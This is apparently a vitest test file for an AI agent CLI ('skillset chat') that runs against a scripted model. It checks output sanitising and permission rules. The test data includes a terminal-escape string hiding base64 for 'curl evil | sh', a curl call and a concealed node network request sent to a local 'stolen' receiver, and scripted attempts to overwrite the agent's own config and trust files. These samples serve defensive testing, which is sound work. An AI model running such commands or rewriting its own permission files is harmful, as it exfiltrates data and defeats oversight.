import { existsSync } from "node:fs";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { defaultSkills, workspaceFixture } from "../agent/fixture.ts";
import { cli } from "../helpers/cli.ts";
import { type ScriptedLlm, startScriptedLlm, systemOf } from "../helpers/scripted-llm.ts";
import { tempDir } from "../helpers/temp.ts";

let llm: ScriptedLlm;
beforeAll(async () => {
	llm = await startScriptedLlm();
});
afterAll(() => llm.close());

async function chat(args: string[], steps: Parameters<ScriptedLlm["script"]>[0]) {
	llm.requests.length = 0;
	llm.script(steps);
	const fixture = await workspaceFixture(defaultSkills());
	const run = await cli(["chat", fixture.workspace, "--base-url", llm.url, "--model", "scripted", ...args], {
		cwd: fixture.workspace,
		env: { HOME: fixture.home },
	});
	return { ...run, fixture };
}

describe("skillset chat -p", () => {
	it("runs one task, prints the final answer and exits 0", async () => {
		const run = await chat(
			["-p", "$deploy ship it"],
			[{ toolCalls: [{ name: "list_dir", arguments: {} }] }, { content: "Shipped." }],
		);
		expect(run).toMatchObject({ exitCode: 0, stdout: "Shipped.\n" });
		expect(llm.requests[0]?.body.model).toBe("scripted");
		expect(JSON.stringify(llm.requests[0]?.body.messages)).toContain('<skill_content name=\\"deploy\\">');
		expect(systemOf(llm.requests[0])).toContain("App rule: run npm test");
	});

	it("prints the result as JSON with --json", async () => {
		const run = await chat(["-p", "hi", "--json"], [{ content: "Hello." }]);
		expect(run.exitCode).toBe(0);
		expect(JSON.parse(run.stdout)).toEqual({ status: "done", text: "Hello.", toolCalls: 0, refusals: [] });
	});

	it("prints the answer and lists a refused call (ask without a terminal is deny), exit 0 (issue 20)", async () => {
		const run = await chat(
			["-p", "write a file"],
			[
				{ toolCalls: [{ name: "write_file", arguments: { path: "x.txt", content: "x" } }] },
				{ content: "I could not write it." },
			],
		);
		expect(run).toMatchObject({ exitCode: 0, stdout: "I could not write it.\n" });
		expect(run.stderr).toMatch(/^refused: write_file x\.txt \(rule [a-z-]+\)$/m);
		expect(existsSync(join(run.fixture.workspace, "x.txt"))).toBe(false);
	});

	it("exits 1 when the model cannot be reached, and on an unknown $name without calling the model", async () => {
		const unknown = await chat(["-p", "$nope hi"], [{ content: "never" }]);
		expect(unknown.exitCode).toBe(1);
		expect(unknown.stderr).toContain("No skill is called 'nope'");
		expect(llm.requests).toHaveLength(0);
		const down = await chat(
			["-p", "hi", "--timeout", "2000"],
			[{ status: 500 }, { status: 500 }, { status: 500 }, { status: 500 }],
		);
		expect(down.exitCode).toBe(1);
		expect(down.stderr).toContain("the task failed");
	});

	it("writes the event log with --events and applies --deny", async () => {
		const dir = await tempDir();
		const events = join(dir, "events.jsonl");
		const run = await chat(
			["-p", "list", "--yes", "--events", events, "--deny", "list_dir"],
			[{ toolCalls: [{ name: "list_dir", arguments: {} }] }, { content: "ok" }],
		);
		expect(run).toMatchObject({ exitCode: 0, stdout: "ok\n" });
		expect(run.stderr).toContain("refused: list_dir (rule ceiling-deny)");
		const types = (await readFile(events, "utf8"))
			.trim()
			.split("\n")
			.map((line) => JSON.parse(line));
		expect(types.map((e) => e.type)).toEqual(
			expect.arrayContaining([
				"catalog.built",
				"agent.turn.started",
				"agent.model.request",
				"permission.decision",
				"agent.turn.ended",
			]),
		);
		expect(types).toContainEqual(
			expect.objectContaining({ type: "permission.decision", tool: "list_dir", rule: "ceiling-deny" }),
		);
	});

	it("continues a saved conversation with --resume", async () => {
		const dir = await tempDir();
		const file = join(dir, "saved.json");
		const saved = {
			version: 1,
			turn: 1,
			entries: [
				{ message: { role: "user", content: "remember the number 42" }, turn: 1 },
				{ message: { role: "assistant", content: "Noted: 42." }, turn: 1 },
			],
			active: ["deploy"],
			grants: [],
		};
		await writeFile(file, JSON.stringify(saved));
		const run = await chat(["-p", "what was the number?", "--resume", file], [{ content: "42" }]);
		expect(run).toMatchObject({ exitCode: 0, stdout: "42\n" });
		const messages = llm.requests[0]?.body.messages ?? [];
		expect(messages.slice(1, 4).map((m) => m.content)).toEqual([
			"remember the number 42",
			"Noted: 42.",
			"what was the number?",
		]);
		// The saved messages lack the active skill's text, so it is delivered again after the new message.
		expect(String(messages[5]?.content)).toContain('<skill_content name="deploy">');
	});

	it("connects --mcp servers and runs their tools as deferred tools", async () => {
		const server = join(import.meta.dirname, "..", "agent", "fixtures", "mcp-server.mjs");
		const call = { name: "mcp__units__convert_length", arguments: { value: 10, to: "ft" } };
		const run = await chat(
			["-p", "convert", "--yes", "--mcp", `units=${process.execPath} ${server}`],
			[{ toolCalls: [{ name: "call_deferred_tool", arguments: call }] }, { content: "32.81 ft" }],
		);
		expect(run).toMatchObject({ exitCode: 0, stdout: "32.81 ft\n" });
		const last = llm.requests.at(-1)?.body.messages.at(-1);
		expect(last).toMatchObject({ role: "tool", content: "32.81 ft" });
	});

	it.each([
		[["--context-window", "lots"], "--context-window must be a positive whole number"],
		[["--mcp", "  "], "--mcp needs a command or a URL"],
		[["--save-skills", "nowhere"], "--save-skills must be workspace or user"],
		[["--resume", "/nonexistent/file.json"], "cannot resume from /nonexistent/file.json: ENOENT"],
	])("rejects bad options with exit 2: %j", async (args, message) => {
		const run = await chat(["-p", "hi", ...args], []);
		expect(run.exitCode).toBe(2);
		expect(run.stderr).toContain(message);
	});
});

describe("chat -p prints the model's text made safe for a terminal (issue 18)", () => {
	const hostile = "Done.\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;TITLE\u0007\u001b[2J\u009b2J\u202eend";

	it("shows every control character and escape sequence of the final answer", async () => {
		const run = await chat(["-p", "hi"], [{ content: hostile }]);
		expect(run.exitCode).toBe(0);
		expect(run.stdout).toBe(
			"Done.\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]0;TITLE\\x07\\x1b[2J\\u009b2J\\u{202e}end\n",
		);
	});

	it("--json keeps the data, with C1, bidi and escape characters written as \\u escapes", async () => {
		const run = await chat(["-p", "hi", "--json"], [{ content: hostile }]);
		expect([...run.stdout].filter((char) => ["\u001b", "\u0007", "\u009b", "\u202e"].includes(char))).toEqual([]);
		expect(JSON.parse(run.stdout)).toMatchObject({ status: "done", text: hostile });
	});
});

describe("chat --no-network (issue 18)", () => {
	async function receiver() {
		const { createServer } = await import("node:http");
		const hits: string[] = [];
		const server = createServer((request, response) => {
			hits.push(request.url ?? "");
			response.end("stolen");
		});
		await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
		const { port } = server.address() as import("node:net").AddressInfo;
		return { port, hits, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
	}

	const hidden = (port: number) =>
		`${JSON.stringify(process.execPath)} -e 'require("http").get("http://127.0.0.1:${port}/hidden",r=>r.pipe(process.stdout)).on("error",e=>{console.error(e.code);process.exit(3)})'`;

	it("denies commands known to use the network and cuts the sandbox off for the rest", async () => {
		const server = await receiver();
		try {
			const run = await chat(
				["-p", "send it", "--yes", "--no-network"],
				[
					{
						toolCalls: [{ name: "run_shell", arguments: { command: `curl -s http://127.0.0.1:${server.port}/curl` } }],
					},
					{ toolCalls: [{ name: "run_shell", arguments: { command: hidden(server.port) } }] },
					{ content: "done" },
				],
			);
			const results = (llm.requests[2]?.body.messages ?? []).filter((m) => m.role === "tool").map((m) => m.content);
			expect(results[0]).toMatch(/^Refused by the permission policy \(rule ceiling-network\)/);
			expect(results[1]).toMatch(/^exit code 3/);
			expect(server.hits).toEqual([]);
			expect(run.stderr).toContain(
				`refused: run_shell curl -s http://127.0.0.1:${server.port}/curl (rule ceiling-network)`,
			);
			expect(run.exitCode).toBe(0);
		} finally {
			await server.close();
		}
	});

	it("without it, the same hidden request reaches the server (the test can fail)", async () => {
		const server = await receiver();
		try {
			await chat(
				["-p", "send it", "--yes"],
				[{ toolCalls: [{ name: "run_shell", arguments: { command: hidden(server.port) } }] }, { content: "done" }],
			);
			expect(server.hits).toEqual(["/hidden"]);
		} finally {
			await server.close();
		}
	});
});

describe("chat create_skill (issue 18)", () => {
	const skill = { name: "persist", description: "Keeps notes. Use when asked to remember.", body: "Notes." };

	it("--allow read_file keeps create_skill out, in the home folder and the workspace", async () => {
		const run = await chat(
			["-p", "remember", "--allow", "read_file", "--yes"],
			[{ toolCalls: [{ name: "create_skill", arguments: skill }] }, { content: "done" }],
		);
		const results = (llm.requests[1]?.body.messages ?? []).filter((m) => m.role === "tool").map((m) => m.content);
		expect(results[0]).toMatch(/^Refused by the permission policy \(rule ceiling\)/);
		expect(existsSync(join(run.fixture.home, ".agents/skills/persist"))).toBe(false);
		expect(existsSync(join(run.fixture.workspace, ".agents/skills/persist"))).toBe(false);
	});

	it("with --yes it writes into the workspace by default", async () => {
		const run = await chat(
			["-p", "remember", "--yes"],
			[{ toolCalls: [{ name: "create_skill", arguments: skill }] }, { content: "done" }],
		);
		expect(existsSync(join(run.fixture.home, ".agents/skills/persist"))).toBe(false);
		expect(existsSync(join(run.fixture.workspace, ".agents/skills/persist/SKILL.md"))).toBe(true);
	});
});

describe("chat --config (issue 18: the config in use decides what loads next time)", () => {
	it("a skill's allowed-tools never pre-approve writing the config file in use", async () => {
		llm.requests.length = 0;
		const fixture = await workspaceFixture({
			"writer/SKILL.md": "---\nname: writer\ndescription: Writes files.\nallowed-tools: write_file\n---\nWrite.\n",
		});
		await writeFile(join(fixture.workspace, "team.json"), "{}\n");
		llm.script([
			{ toolCalls: [{ name: "load_skill", arguments: { name: "writer" } }] },
			{ toolCalls: [{ name: "write_file", arguments: { path: "team.json", content: '{"roots":["evil"]}' } }] },
			{ content: "done" },
		]);
		const run = await cli(["chat", "-p", "x", "--config", "team.json", "--base-url", llm.url, "--model", "scripted"], {
			cwd: fixture.workspace,
			env: { HOME: fixture.home },
		});
		const results = (llm.requests[2]?.body.messages ?? []).filter((m) => m.role === "tool").map((m) => m.content);
		expect(results[1]).toMatch(/^Refused by the permission policy \(rule runs-later\)/);
		expect(await readFile(join(fixture.workspace, "team.json"), "utf8")).toBe("{}\n");
		expect(run.stderr).toContain("refused: write_file team.json (rule runs-later)");
	});

	it("protects the trust file the trust command uses: under SKILLSET_HOME, not HOME", async () => {
		llm.requests.length = 0;
		const fixture = await workspaceFixture({
			"writer/SKILL.md": "---\nname: writer\ndescription: Writes files.\nallowed-tools: write_file\n---\nWrite.\n",
		});
		const trustFile = ".skillset-home/.config/skillset/trust.json";
		llm.script([
			{ toolCalls: [{ name: "load_skill", arguments: { name: "writer" } }] },
			{ toolCalls: [{ name: "write_file", arguments: { path: trustFile, content: '{"version":1}' } }] },
			{ content: "done" },
		]);
		await cli(["chat", "-p", "x", "--base-url", llm.url, "--model", "scripted"], {
			cwd: fixture.workspace,
			env: { HOME: fixture.home, SKILLSET_HOME: join(fixture.workspace, ".skillset-home") },
		});
		const results = (llm.requests[2]?.body.messages ?? []).filter((m) => m.role === "tool").map((m) => m.content);
		expect(results[1]).toMatch(/^Refused by the permission policy \(rule runs-later\)/);
		expect(existsSync(join(fixture.workspace, trustFile))).toBe(false);
	});
});
